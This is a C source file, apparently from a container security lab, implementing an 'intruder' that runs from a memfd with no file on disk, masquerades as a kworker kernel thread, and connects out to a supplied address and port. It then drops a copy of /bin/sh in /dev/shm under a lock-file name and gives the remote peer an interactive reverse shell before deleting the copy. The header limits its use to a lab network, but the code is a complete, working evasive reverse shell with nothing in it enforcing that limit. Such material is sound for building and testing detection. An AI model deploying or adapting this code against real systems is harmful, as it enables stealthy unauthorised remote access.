/*
 * The intruder. "lab intruder ADDRESS PORT", started by a service in a privileged pod:
 *
 *   1. copies itself into a memfd and runs the copy, so that its program is no file on disk, and calls itself [kworker/u8:3]
 *   2. connects to ADDRESS:PORT and stays connected
 *   3. copies the pod's shell to /dev/shm, starts it with the connection as input and output, and removes the copy
 *
 * It sends and does nothing else: the peer is a socket in the lab's own "internet" network namespace.
 */
#define _GNU_SOURCE
#include "lab.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define DISGUISE "[kworker/u8:3]"
#define DROPPED "/dev/shm/.X11-lock"

extern char **environ;

static void copy(int from, int to) {
    char block[65536];
    ssize_t count;
    while ((count = read(from, block, sizeof block)) > 0) {
        if (write(to, block, count) != count) {
            fail("copy");
        }
    }
}

static void hide(char **argv) {
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int hidden = memfd_create("kworker", MFD_CLOEXEC);
    if (self < 0 || hidden < 0) {
        fail("memfd");
    }
    copy(self, hidden);
    setenv("C2", argv[1], 1);
    setenv("C2_PORT", argv[2], 1);
    char *disguised[] = {DISGUISE, NULL};
    fexecve(hidden, disguised, environ);
    fail("fexecve");
}

static int connection(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("C2_PORT")))};
    inet_pton(AF_INET, getenv("C2"), &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    for (int tries = 0; connect(fd, (struct sockaddr *)&to, sizeof to) != 0; tries++) {
        if (tries == 60) {
            fail("connect");
        }
        sleep(1);
    }
    return fd;
}

static void reverse_shell(int fd) {
    int from = open("/bin/sh", O_RDONLY | O_CLOEXEC);
    int to = open(DROPPED, O_CREAT | O_WRONLY | O_TRUNC, 0700);
    if (from < 0 || to < 0) {
        fail(DROPPED);
    }
    copy(from, to);
    close(to);
    if (fork() == 0) {
        for (int i = 0; i < 3; i++) {
            dup2(fd, i);
        }
        execl(DROPPED, "sh", "-i", NULL);
        fail(DROPPED);
    }
    sleep(2);
    unlink(DROPPED);
}

int intruder_main(int argc, char **argv) {
    if (argc == 3) {
        hide(argv);
    }
    prctl(PR_SET_NAME, "kworker/u8:3", 0, 0, 0);
    reverse_shell(connection());
    for (;;) {
        pause();
    }
}
